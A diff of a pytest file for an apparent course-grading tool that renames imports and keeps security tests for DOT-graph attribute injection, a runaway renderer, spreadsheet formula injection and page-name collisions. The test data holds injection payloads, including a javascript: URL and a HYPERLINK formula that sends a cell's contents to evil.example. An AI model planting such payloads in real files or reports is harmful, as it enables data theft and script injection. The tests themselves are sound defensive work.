@@ -11,7 +11,7 @@ import subprocess
 
 import pytest
 
-from grader import graphs
+from dezero_grader.present import graph_dot
 
 EVIL = 'Mul", URL="javascript:alert(1)", target="_top", x="\\N'
 
@@ -31,9 +31,9 @@ def _graph(n_nodes=1, type_name=EVIL, var_name=EVIL):
     return {'variables': variables, 'nodes': nodes}
 
 
-@pytest.mark.skipif(graphs.shutil.which('dot') is None, reason='Graphviz dot is not installed')
+@pytest.mark.skipif(graph_dot.shutil.which('dot') is None, reason='Graphviz dot is not installed')
 def test_a_class_name_in_dot_syntax_stays_a_name(tmp_path):
-    written = graphs.write_all(_doc(_graph()), tmp_path)
+    written = graph_dot.write_all(_doc(_graph()), tmp_path)
     dot = (tmp_path / 'step09_square.dot').read_text(encoding='utf-8')
     svg = (tmp_path / 'step09_square.svg').read_text(encoding='utf-8')
     assert [p.suffix for p in written] == ['.dot', '.svg']
@@ -50,14 +50,14 @@ def test_a_class_name_in_dot_syntax_stays_a_name(tmp_path):
 def test_a_graph_of_another_form_writes_no_dot_of_its_choosing(tmp_path):
     graph = {'variables': [{'label': 'x'}], 'nodes': [
         {'type': 'Add', 'generation': 0, 'inputs': ['0; v0 -> f0 [URL="javascript:x"]'], 'outputs': [7]}]}
-    text = graphs.to_dot(graph)
+    text = graph_dot.to_dot(graph)
     assert 'javascript' not in text and '->' not in text
 
 
 def test_a_graph_too_large_to_lay_out_is_written_as_dot_only(tmp_path):
     notes = []
-    big = _graph(n_nodes=graphs.MAX_DRAWN_NODES, type_name='Add', var_name='x')
-    written = graphs.write_all(_doc(big), tmp_path, notes)
+    big = _graph(n_nodes=graph_dot.MAX_DRAWN_NODES, type_name='Add', var_name='x')
+    written = graph_dot.write_all(_doc(big), tmp_path, notes)
     assert [p.suffix for p in written] == ['.dot']
     assert notes and 'no SVG drawn' in notes[0]
 
@@ -67,17 +67,17 @@ def test_dot_that_never_ends_is_stopped_by_its_cpu_limit(tmp_path, monkeypatch):
     busy = tmp_path / 'dot'
     busy.write_text('#!/bin/sh\nwhile :; do :; done\n')
     busy.chmod(busy.stat().st_mode | stat.S_IXUSR)
-    monkeypatch.setattr(graphs, 'DOT_CPU_S', 1)
+    monkeypatch.setattr(graph_dot, 'DOT_CPU_S', 1)
     source = tmp_path / 'g.dot'
-    source.write_text(graphs.to_dot(_graph(type_name='Add')))
-    why = graphs.render_svg(str(busy), source, tmp_path / 'g.svg')
+    source.write_text(graph_dot.to_dot(_graph(type_name='Add')))
+    why = graph_dot.render_svg(str(busy), source, tmp_path / 'g.svg')
     assert why is not None and 'exit status' in why and not (tmp_path / 'g.svg').exists()
 
 
 @pytest.fixture(scope='module')
 def card():
-    import reference
-    from grader import run
+    from dezero_grader import reference
+    from dezero_grader.grading import run
     doc = run.grade(reference.ROOT / 'steps', 1, run.Options(device='sim', seed=1))
     assert doc['verdict'] == 'accept'
     return doc
@@ -87,15 +87,15 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', '-2+3', '@
 
 
 def test_every_start_of_a_formula_is_neutralised():
-    from grader.export import spreadsheet_text
+    from dezero_grader.export import spreadsheet_text
     for cell in FORMULAS + ['\tTAB', '\rCR']:
         assert spreadsheet_text(cell) == "'" + cell
     assert spreadsheet_text('Liddell, Alice') == 'Liddell, Alice'
 
 
 def test_a_roster_name_that_is_a_formula_is_written_as_text(card, tmp_path):
-    from grader.export import Graded, Submission, canvas
-    from grader import roster as roster_mod
+    from dezero_grader.export import Graded, Submission, canvas
+    from dezero_grader.intake import roster as roster_mod
     lines = ['Student,ID,SIS User ID,SIS Login ID,Section,Submission']
     subs = []
     for i, name in enumerate(FORMULAS):
@@ -115,16 +115,16 @@ def test_a_roster_name_that_is_a_formula_is_written_as_text(card, tmp_path):
 
 
 def test_a_submission_named_index_has_its_own_page(card, tmp_path):
-    from grader import htmlreport
-    from grader.batch.summary import assignment_info, summarize
-    from grader.batch import BatchOptions
+    from dezero_grader.present import html_page
+    from dezero_grader.batch.summary import assignment_info, summarize
+    from dezero_grader.batch import BatchOptions
     docs = {'index': card, 'INDEX': card, 'alice': card}
     summary = summarize(assignment=assignment_info(1), options=BatchOptions(1).to_json(),
                         shards={'count': 1, 'included': [1]}, graded=list(docs.items()),
                         failures=[])
-    paths = htmlreport.write_class(tmp_path, summary, docs)
+    paths = html_page.write_class(tmp_path, summary, docs)
     names = [p.name for p in paths]
     assert names[0] == 'index.html' and len(set(n.lower() for n in names)) == len(names) == 4
     page = (tmp_path / 'index.html').read_text(encoding='utf-8')
     assert 'class page' in page     # the class page, not a submission's report
-    assert htmlreport.page_name('index') in page and htmlreport.page_name('INDEX') in page
+    assert html_page.page_name('index') in page and html_page.page_name('INDEX') in page
